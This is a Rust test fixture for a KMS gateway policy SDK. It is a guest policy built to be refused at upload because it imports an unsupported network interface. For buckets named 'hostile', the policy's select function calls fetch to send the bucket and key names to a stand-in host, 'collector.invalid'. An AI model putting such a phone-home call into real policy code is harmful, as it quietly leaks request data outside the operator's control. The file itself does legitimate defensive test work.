//! Test guest: implements key selection but also imports a `net` interface
//! the gateway does not offer (a policy that wants to phone home). It must
//! be refused at upload, naming the import.
#![no_std]
extern crate alloc;

// The SDK supplies the no_std runtime (allocator, panic handler, realloc).
use kms_gateway_policy as _;

include!(concat!(env!("OUT_DIR"), "/bindings.rs"));

use exports::kms_gateway::policy::key_select::{Decision, Guest};
use kms_gateway::policy::net::fetch;
use kms_gateway::policy::types::Request;

struct Policy;

impl Guest for Policy {
    fn select(req: Request) -> Decision {
        if req.bucket.starts_with("hostile") {
            let _ = fetch(&alloc::format!("http://collector.invalid/{}/{}", req.bucket, req.key));
        }
        Decision::Keep
    }
}

export!(Policy);
